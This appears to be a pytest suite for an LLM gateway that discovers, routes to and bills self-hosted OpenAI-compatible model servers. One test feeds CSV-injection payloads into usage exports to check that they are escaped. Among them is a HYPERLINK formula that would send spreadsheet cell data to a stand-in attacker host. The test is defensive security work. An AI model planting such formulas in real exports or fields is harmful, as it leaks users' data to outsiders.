"""Bring your own models: a self-hosted OpenAI-compatible box (a fake with its own `/v1/models`)
configured in three lines under a name the operator chose, end to end with the openai SDK: listed by
`routerone models` and `/v1/models`, callable as `<model>` and `<provider>/<model>`, billed at the
configured price, chosen by `auto` instead of the demo, two boxes at once, and a failed discovery
keeping the last list."""
from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import openai
import pytest

from billing_procs import usage_cost_micros
from routerone.settings import load_settings
from routerone.testing.fake_box import FakeBox
from routerone.testing.harness import ADMIN_KEY, Gateway

SRC = str(Path(__file__).resolve().parents[2] / "src")
IN_USD, OUT_USD = "0.20", "0.60"     # the operator's price for the box's (unpriced) models


def three_lines(name: str, box: FakeBox, price: bool = True) -> str:
    text = f'[providers.{name}]\nbase_url = "{box.base_url}"\n'
    return text + (f'input_usd_per_mtok = "{IN_USD}"\noutput_usd_per_mtok = "{OUT_USD}"\n' if price else "")


@pytest.fixture
def boxes():
    started: list[FakeBox] = []

    def make(models, **kw) -> FakeBox:
        b = FakeBox(models, **kw).start()
        started.append(b)
        return b
    yield make
    for b in started:
        b.stop()


@pytest.fixture
def start(tmp_path):
    started: list[Gateway] = []

    def make(config: str, **overrides) -> tuple[Gateway, Path]:
        cfg = tmp_path / f"r1-{len(started)}.toml"
        cfg.write_text(config)
        settings = load_settings(str(cfg), env={}, database_url=f"sqlite:///{tmp_path}/gw-{len(started)}.db",
                                 admin_key=ADMIN_KEY, usage_flush_interval_s=0.05, **overrides)
        gw = Gateway(settings).start()
        started.append(gw)
        return gw, cfg
    yield make
    for gw in reversed(started):
        gw.stop()


def cli(*args: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.endswith("_API_KEY") and not k.startswith("ROUTERONE_")}
    env["PYTHONPATH"] = SRC
    return subprocess.run([sys.executable, "-m", "routerone", *args], capture_output=True, text=True, env=env,
                          timeout=60)


def ids(client) -> set[str]:
    return {m.id for m in client.models.list()}


def test_three_lines_list_call_and_bill(boxes, start, make_openai_client, tmp_path):
    box = boxes(["llama-3-8b", "qwen2.5-7b"], max_model_len=8192)
    gw, cfg = start(three_lines("gpubox", box, price=True))
    out = cli("models", "--config", str(cfg), "--database-url", f"sqlite:///{tmp_path}/cli.db")
    assert out.returncode == 0, out.stderr
    rows = {line.split()[0]: line.split() for line in out.stdout.splitlines()[1:]}
    # auto profile: the published score of the leaderboard row the name finds (leaderboard.py)
    assert rows["llama-3-8b"][1:] == ["gpubox", "8192", "0.200", "0.600", "provider", "default",
                                      "prior:lmarena-text-2025-08-04", "as", "'Llama-3-8B-Instruct'"]
    # not on LMArena: the Open LLM Leaderboard's model of that very name (the base model)
    assert rows["qwen2.5-7b"][-3:] == ["prior:open-llm-leaderboard-v2-2025-03-21", "as", "'Qwen/Qwen2.5-7B'"]
    assert set(rows) == {"llama-3-8b", "qwen2.5-7b"}          # the demo is off: a provider exists

    key, account_id = gw.new_key(balance_micros=5_000_000)
    client = make_openai_client(gw, api_key=key)
    assert ids(client) == {"auto", "llama-3-8b", "qwen2.5-7b"}
    costs = []
    for model in ("llama-3-8b", "gpubox/llama-3-8b", "gpubox/qwen2.5-7b"):
        raw = client.chat.completions.with_raw_response.create(
            model=model, messages=[{"role": "user", "content": "hello box"}], max_tokens=5)
        reply = raw.parse()
        assert raw.headers["x-routerone-provider"] == "gpubox"
        assert box.chat_requests[-1]["model"] == model.split("/")[-1]     # the upstream sees its own name
        u = reply.usage
        expected = -(-(u.prompt_tokens * 200_000 + u.completion_tokens * 600_000) // 1_000_000)
        assert usage_cost_micros(u) == expected > 0
        costs.append(expected)
    time.sleep(0.3)
    ledger = gw.admin("GET", f"/admin/accounts/{account_id}/ledger")["data"]
    charged = sorted(abs(e["amount_micros"]) for e in ledger if e["kind"] == "charge")
    assert charged == sorted(costs)                               # usage.cost == the ledger charge
    assert gw.account(account_id)["balance_micros"] == 5_000_000 - sum(costs)


def test_keyless_box_is_free_by_default_and_auto_never_picks_the_demo(boxes, start, make_openai_client):
    box = boxes(["llama-3-8b"])
    gw, _ = start(three_lines("gpubox", box, price=False))
    client = make_openai_client(gw)
    assert ids(client) == {"auto", "llama-3-8b"}
    for prompt in ("Write a Python function that merges two sorted lists.", "hi"):
        raw = client.chat.completions.with_raw_response.create(
            model="auto", messages=[{"role": "user", "content": prompt}])
        assert raw.headers["x-routerone-provider"] == "gpubox"
        assert raw.headers["x-routerone-model"] == "llama-3-8b"
        assert usage_cost_micros(raw.parse().usage) == 0
    with pytest.raises(openai.NotFoundError):
        client.chat.completions.create(model="demo-large", messages=[{"role": "user", "content": "x"}])


def test_odd_model_ids_from_a_box(boxes, start, make_openai_client):
    """A box listing "auto" (the router's own name), an id twice, ids with a NUL or a space: "auto" is
    only `gpubox/auto` (model "auto" still routes), a twice-listed id keeps its bare name (it had
    become only `gpubox/same`), unusable ids are left out."""
    box = boxes(["auto", "same", "same", "bad\x00id", "two words", "llama-3-8b"])
    gw, _ = start(three_lines("gpubox", box, price=False))
    client = make_openai_client(gw)
    assert ids(client) == {"auto", "gpubox/auto", "same", "llama-3-8b"}
    raw = client.chat.completions.with_raw_response.create(model="auto", messages=[{"role": "user", "content": "hi"}])
    assert raw.headers["x-routerone-strategy"] and raw.headers["x-routerone-reason"]    # routed, not the box's "auto"
    assert client.chat.completions.create(model="gpubox/auto", messages=[{"role": "user", "content": "hi"}]).model \
        == "gpubox/auto"
    assert client.chat.completions.create(model="same", messages=[{"role": "user", "content": "hi"}]).model == "same"


def test_two_boxes_at_once(boxes, start, make_openai_client):
    a = boxes(["llama-3-8b", "mistral-7b"])
    b = boxes(["llama-3-8b", "phi-4"])
    gw, _ = start(three_lines("rack1", a) + three_lines("rack2", b, price=False))
    client = make_openai_client(gw)
    assert ids(client) == {"auto", "mistral-7b", "phi-4", "rack1/llama-3-8b", "rack2/llama-3-8b"}
    for model, box, other in (("mistral-7b", a, b), ("phi-4", b, a), ("rack1/llama-3-8b", a, b),
                              ("rack2/llama-3-8b", b, a), ("rack2/phi-4", b, a)):
        n_other = len(other.chat_requests)
        raw = client.chat.completions.with_raw_response.create(
            model=model, messages=[{"role": "user", "content": "hi"}], max_tokens=3)
        assert box.chat_requests[-1]["model"] == model.split("/")[-1]
        assert len(other.chat_requests) == n_other
        free = box is b
        assert (usage_cost_micros(raw.parse().usage) == 0) == free
    with pytest.raises(openai.NotFoundError) as err:      # served by two boxes: the bare name is ambiguous
        client.chat.completions.create(model="llama-3-8b", messages=[{"role": "user", "content": "x"}])
    assert "rack1/llama-3-8b" in str(err.value) and "rack2/llama-3-8b" in str(err.value)


def test_discovery_failure_keeps_the_last_list_and_recovers(boxes, start, make_openai_client):
    box = boxes(["llama-3-8b"])
    gw, _ = start(three_lines("gpubox", box) + "discovery_interval_s = 0.1\n")
    client = make_openai_client(gw)
    assert ids(client) == {"auto", "llama-3-8b"}

    box.models_status = 503
    seen = box.models_requests
    deadline = time.monotonic() + 10
    while box.models_requests < seen + 3 and time.monotonic() < deadline:
        time.sleep(0.05)
    assert box.models_requests >= seen + 3                        # refreshes kept failing
    assert ids(client) == {"auto", "llama-3-8b"}                  # the last good list is kept
    client.chat.completions.create(model="llama-3-8b", messages=[{"role": "user", "content": "x"}], max_tokens=2)

    box.models, box.models_status = ["llama-3-8b", "gemma-2-9b"], 200
    deadline = time.monotonic() + 10
    while "gemma-2-9b" not in ids(client) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert ids(client) == {"auto", "llama-3-8b", "gemma-2-9b"}


def test_a_box_that_comes_up_after_the_gateway_is_served_within_seconds(boxes, start, make_openai_client):
    """vLLM loads its weights for minutes, so Router One often starts first: its failed first discovery
    is retried within seconds (backing off to `discovery_interval_s`), not only 5 minutes later (a
    new operator's box stayed a 404 for the whole default interval). Until then a call names the
    provider whose list could not be read."""
    box = boxes(["llama-3-8b"])
    box.models_status = 503                                       # still loading
    gw, _ = start(three_lines("gpubox", box))                     # default discovery_interval_s (300 s)
    client = make_openai_client(gw)
    assert "llama-3-8b" not in ids(client)
    with pytest.raises(openai.NotFoundError) as err:              # says why, without the box's address
        client.chat.completions.create(model="llama-3-8b", messages=[{"role": "user", "content": "x"}])
    message = err.value.response.json()["error"]["message"]
    assert "provider gpubox" in message and "could not be read" in message, message
    assert box.base_url.split("//")[1].split("/")[0] not in message, message
    box.models_status = 200                                       # the box is up
    deadline = time.monotonic() + 15
    while "llama-3-8b" not in ids(client) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert ids(client) == {"auto", "llama-3-8b"}
    client.chat.completions.create(model="llama-3-8b", messages=[{"role": "user", "content": "x"}], max_tokens=2)


def test_auto_reason_names_both_profiles_of_hugging_face_named_models(boxes, start, make_openai_client):
    """A vLLM box serves models by their Hugging Face ids: `auto`'s reason for two of them ran past
    300 characters and the header was cut in the middle of the runner-up's profile source."""
    box = boxes(["meta-llama/Llama-3.1-8B-Instruct", "Qwen/Qwen2.5-7B-Instruct"], max_model_len=8192)
    gw, _ = start(three_lines("gpubox", box, price=False))
    raw = make_openai_client(gw).chat.completions.with_raw_response.create(
        model="auto", messages=[{"role": "user", "content": "hi"}])
    reason = raw.headers["x-routerone-reason"]
    assert len(reason) > 300 and reason.endswith(")"), reason
    assert "as 'Meta-Llama-3.1-8B-Instruct')" in reason and "as 'Qwen/Qwen2.5-7B-Instruct')" in reason, reason


def test_wildcards_pick_the_models_to_serve(boxes, start, make_openai_client):
    box = boxes(["llama-3-8b", "llama-3-70b", "qwen2.5-7b"])
    gw, _ = start(three_lines("gpubox", box) + 'models = ["llama-*"]\n')
    assert ids(make_openai_client(gw)) == {"auto", "llama-3-8b", "llama-3-70b"}


def test_paid_box_without_a_price_refuses_unpriced_models(boxes, start, make_openai_client):
    box = boxes(["llama-3-8b"], api_key="sk-box")
    gw, _ = start(f'[providers.paidbox]\nbase_url = "{box.base_url}"\napi_key = "sk-box"\n')
    assert box.models_requests >= 1                                # it was asked, with its key
    assert ids(make_openai_client(gw)) == set()                    # nothing is served for free (and so no auto)


def test_a_providers_own_timeout(boxes, start, make_openai_client):
    box = boxes(["llama-3-8b"])
    gw, _ = start(three_lines("gpubox", box) + "first_byte_timeout_s = 0.3\n", max_retries=0)
    client = make_openai_client(gw)
    t0 = time.monotonic()
    with pytest.raises(openai.APIStatusError) as err:      # the box says nothing for 3 s (or until released)
        client.chat.completions.create(model="llama-3-8b", messages=[{"role": "user", "content": "[[hold:3000]]"}])
    elapsed_s = time.monotonic() - t0
    # let the box's handler go, so that stopping the box does not wait out the 3 s
    urllib.request.urlopen(urllib.request.Request(box.url + "/_control/release", method="POST"), timeout=5).close()
    assert err.value.status_code == 504 and elapsed_s < 2.5      # not the 120 s default



def test_a_long_model_list_is_read_whole(boxes, start, make_openai_client):
    """Discovery read the list with one read(n), which returns what has arrived: a list over ~128 KiB
    (an aggregator's, a proxy's) came cut and discovery failed ("not an OpenAI model list")."""
    long_ids = [f"org/{'m' * 230}-{i:05d}" for i in range(1900)]          # ~600 KB of list
    gw, _ = start(three_lines("gpubox", boxes(long_ids), price=False))
    client = make_openai_client(gw)
    assert ids(client) >= set(long_ids)
    assert client.chat.completions.create(model=long_ids[-1], messages=[{"role": "user", "content": "hi"}]).choices


def test_at_most_2000_discovered_models_per_provider(boxes, start, make_openai_client):
    """Every listed model was served: 60,000 made each `auto` request weigh 60,000 candidates (~0.5 s
    of the event loop per request); now the first 2,000 per provider, with a warning."""
    many = [f"model-{i:05d}" for i in range(2500)]
    gw, _ = start(three_lines("big", boxes(many), price=False))
    served = ids(make_openai_client(gw))
    assert set(many[:2000]) <= served and not served & set(many[2000:]), len(served)


def test_csv_exports_write_formula_like_text_as_text(boxes, start, make_openai_client, tmp_path):
    """A model id a box lists (`=1+2`, `@SUM(A1)`) or a key's name (`=HYPERLINK(...)`, chosen by any user
    of the account) went into `routerone usage --format csv` and the console's logs.csv as is: a
    formula when the export is opened in a spreadsheet. Such cells now start with a quote."""
    import re as _re
    import httpx2
    from routerone.console.web import CONSOLE
    box = boxes(["=1+2", "@SUM(A1)", "plain"])
    gw, cfg = start(three_lines("gpubox", box, price=False))
    key, account_id = gw.new_key(name='=HYPERLINK("http://evil.example/?"&A1)')
    client = openai.OpenAI(base_url=gw.base_url, api_key=key, max_retries=0)
    for model in ("=1+2", "@SUM(A1)", "plain"):
        client.chat.completions.create(model=model, messages=[{"role": "user", "content": "hi"}])
    time.sleep(0.5)                                                     # the usage writer's flush
    out = cli("usage", "--by", "model", "--format", "csv", "--config", str(cfg),
              "--database-url", gw.settings.database_url)
    assert out.returncode == 0, out.stderr
    cells = [line.split(",")[0] for line in out.stdout.splitlines()[1:]]
    assert sorted(cells) == ["'=1+2", "'@SUM(A1)", "plain"], out.stdout
    gw.call(gw.app[CONSOLE].users.create("u@example.com", "user-password-1", account_id=account_id))
    with httpx2.Client(base_url=gw.url, follow_redirects=True, timeout=30) as web:
        csrf = _re.search(r'name="csrf" value="([^"]+)"', web.get("/console/login").text).group(1)
        web.post("/console/login", data={"csrf": csrf, "email": "u@example.com", "password": "user-password-1"})
        rows = list(csv.reader(io.StringIO(web.get("/console/logs.csv").text)))
    assert len(rows) == 4, rows
    assert {r[2] for r in rows[1:]} == {"'=HYPERLINK(\"http://evil.example/?\"&A1)"}
    assert sorted(r[3] for r in rows[1:]) == ["'=1+2", "'@SUM(A1)", "plain"]


def test_a_models_filter_that_matches_nothing_is_said(boxes, start, make_openai_client, tmp_path):
    """`models = ["llama*"]` in front of a vLLM box that lists "meta-llama/Llama-3.1-8B-Instruct" matches
    nothing (a wildcard matches the whole name): the box served no model, no line said so, and `auto`
    answered "No configured model can serve this request" (found playing a new operator)."""
    box = boxes(["meta-llama/Llama-3.1-8B-Instruct", "Qwen/Qwen2.5-7B-Instruct"])
    gw, cfg = start(f'[providers.gpubox]\nbase_url = "{box.base_url}"\nmodels = ["llama*"]\n')
    out = cli("models", "--config", str(cfg), "--database-url", f"sqlite:///{tmp_path}/cli.db")
    assert out.returncode == 0 and "Traceback" not in out.stderr, out.stderr
    assert "provider gpubox: its models filter ['llama*'] matches none of the 2 model(s) it lists" in out.stderr
    assert "meta-llama/Llama-3.1-8B-Instruct" in out.stderr and '"*llama*"' in out.stderr
    client = make_openai_client(gw)
    assert ids(client) == set()                             # not even auto
    with pytest.raises(openai.BadRequestError) as err:
        client.chat.completions.create(model="auto", messages=[{"role": "user", "content": "hello"}])
    assert "No model is served by this gateway" in err.value.message and "routerone models" in err.value.message


def test_a_box_listing_100k_models_does_not_stall_the_gateway(boxes, start):
    """Session 13: a box whose `/v1/models` lists 100,000 names (a 7.6 MB list, under MAX_LIST_BYTES)
    had every name priced and profiled on the event loop at each refresh, though only the first
    MAX_DISCOVERED_MODELS (2,000) are served: the event loop waited 949 ms at each refresh (every
    `discovery_interval_s`); now the first 2,000 only, parsed and built off the loop (~120 ms)."""
    box = boxes([f"qwen2.5-7b-v{i}" for i in range(100_000)])
    gw, _ = start(three_lines("box", box) + "discovery_interval_s = 0.5\n")
    worst_lag_s = [0.0]

    async def lag_monitor() -> None:
        while True:
            t0 = time.perf_counter()
            await asyncio.sleep(0.002)
            worst_lag_s[0] = max(worst_lag_s[0], time.perf_counter() - t0 - 0.002)
    asked = box.models_requests
    monitor = asyncio.run_coroutine_threadsafe(lag_monitor(), gw.loop)
    try:
        deadline = time.monotonic() + 60
        while box.models_requests < asked + 2 and time.monotonic() < deadline:   # two whole refreshes
            time.sleep(0.1)
        time.sleep(1.0)
    finally:
        monitor.cancel()
    assert box.models_requests >= asked + 2
    served = [m for m in gw.runtime.catalog.discovered["box"]]
    assert len(served) == 2000 and served[0].id == "qwen2.5-7b-v0"
    print(f"\nFIGURES gateway event loop worst lag {worst_lag_s[0] * 1000:.0f} ms over two refreshes of 100k models")
    assert worst_lag_s[0] < 0.3, f"the event loop waited {worst_lag_s[0] * 1000:.0f} ms"
